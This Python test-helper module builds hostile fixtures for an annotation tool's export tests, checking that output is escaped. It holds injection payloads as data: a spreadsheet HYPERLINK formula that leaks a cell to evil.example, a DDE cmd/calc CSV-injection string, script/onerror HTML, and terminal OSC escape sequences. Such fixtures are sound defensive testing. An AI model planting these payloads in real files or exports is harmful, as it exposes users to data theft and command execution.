"""Data the export tests share: a hostile document, annotations on it, and scopes.

(A module of helpers, not tests: its name keeps it with the export tests it serves.)
"""

from __future__ import annotations

from hypothesis import strategies as st

from annotations import Annotation, Codebook, Document
from annotations.export import ExportScope, make_scope

# Text that means something to a terminal, Rich, Markdown, HTML or a spreadsheet.
RICH = "[bold red]Rich markup[/bold red] and [link=https://evil.example]a link[/link]"
ESCAPES = "ESC \x1b[31mred\x1b[0m, OSC 52 \x1b]52;c;ZXZpbA==\x07, CSI \x9b2J, BS x\x08, DEL \x7f"
HTML = "<script>alert('x')</script> <img src=x onerror=alert(1)> & &amp; &lt;b&gt;"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'
MARKDOWN = "# not a heading *not emphasis* _nor this_ `nor code` [nor](https://link.example) ~~x~~"
BIDI = "abc \u202eevil\u202c \u2066isolated\u2069 line\u2028separator"
LINES = [
    "A plain first paragraph about Russia and Iran.",
    FORMULA,
    "- a list item? no: @ and + start cells too",
    RICH,
    ESCAPES,
    HTML,
    MARKDOWN,
    BIDI,
    "1. an ordered list? > no | not a table either",
    "Persian: روسیه و ایران. Russian: Россия и Иран.",
]
HOSTILE_TEXT = "\n\n".join(LINES) + "\n"
HOSTILE_MEMO = f"{FORMULA}\n{RICH}\n{ESCAPES}\n{HTML}\n{MARKDOWN}\n\t+tab and\rcarriage"
HOSTILE_ANALYST = "-=cmd|' /C calc'!A0 <b>ana</b>"

TIMESTAMP = "2024-11-25T10:00:00Z"


def hostile_document() -> Document:
    return Document.from_text(HOSTILE_TEXT, title="<i>Hostile</i> *title* =1+1 \x1b]0;pwned\x07")


def annotate(
    document: Document,
    paragraph: int,
    tags: list[str],
    *,
    memo: str = "",
    confidence: str | None = None,
    analyst: str = "ana",
    number: int = 0,
) -> Annotation:
    span = document.paragraphs[paragraph]
    annotation = Annotation.create(
        document=document.id,
        text=document.text,
        start=span.start,
        end=span.end,
        tags=tags,
        memo=memo,
        confidence=confidence,
        analyst=analyst,
    )
    return annotation.evolve(
        id=f"00000000-0000-4000-8000-{number:012d}", created=TIMESTAMP, modified=TIMESTAMP
    )


def hostile_annotations(document: Document) -> list[Annotation]:
    """One annotation per paragraph with tags that exercise the grouping and the matrix."""
    tag_sets = [
        ["actor/russia", "interest/military"],
        ["actor/iran", "interest/society", "interest/military"],
        ["actor/both", "relation/divergence"],
        ["actor/russia", "interest/institutions"],
        ["interest/economy"],
        [],
        ["actor/iran", "interest/access"],
        ["actor/russia", "interest/diplomacy", "unknown/custom-tag"],
        ["actor/iran"],
        ["actor/both", "interest/leverage"],
    ]
    return [
        annotate(
            document,
            index,
            tags,
            memo=HOSTILE_MEMO if index % 2 else "",
            confidence=("low", "moderate", "high", None)[index % 4],
            analyst=HOSTILE_ANALYST if index == 3 else ("ana" if index % 3 else "ben"),
            number=index + 1,
        )
        for index, tags in enumerate(tag_sets)
    ]


def hostile_scope() -> ExportScope:
    document = hostile_document()
    return make_scope(
        [document],
        hostile_annotations(document),
        Codebook.default(),
        filters="tag <b>x</b>",
        generated=TIMESTAMP,
    )


def bundled_scope() -> ExportScope:
    """The bundled article with an annotation on each of its first 14 sentences."""
    document = Document.bundled()
    codebook = Codebook.default()
    codes = [code.id for code in codebook.codes]
    annotations = []
    for number, sentence in enumerate(document.sentences[2:16], start=1):
        annotation = Annotation.create(
            document=document.id,
            text=document.text,
            start=sentence.start,
            end=sentence.end,
            tags=codebook.ordered([codes[number % 3], codes[3 + number % 7]]),
            memo=f"memo {number}",
            analyst="ana",
        )
        annotations.append(annotation)
    return make_scope([document], annotations, codebook, generated=TIMESTAMP)


# -- hypothesis: any document, any annotations ---------------------------------------------

STRATEGY_CODES = [code.id for code in Codebook.default().codes] + ["other/thing"]
# Any character a file can hold (no lone surrogates), controls and escapes included.
any_text = st.text(st.characters(exclude_categories=("Cs",)), max_size=60)


@st.composite
def scopes(draw):
    body = draw(st.text(st.characters(exclude_categories=("Cs",)), min_size=1, max_size=300))
    document = Document.from_text(body, title=draw(any_text) or None)
    annotations = []
    for _ in range(draw(st.integers(0, 5))):
        start = draw(st.integers(0, len(document.text) - 1))
        end = draw(st.integers(start + 1, len(document.text)))
        annotations.append(
            Annotation.create(
                document=document.id,
                text=document.text,
                start=start,
                end=end,
                tags=draw(st.lists(st.sampled_from(STRATEGY_CODES), unique=True, max_size=3)),
                memo=draw(any_text),
                confidence=draw(st.sampled_from([None, "low", "high"])),
                analyst=draw(any_text),
            )
        )
    return make_scope([document], annotations, Codebook.default())
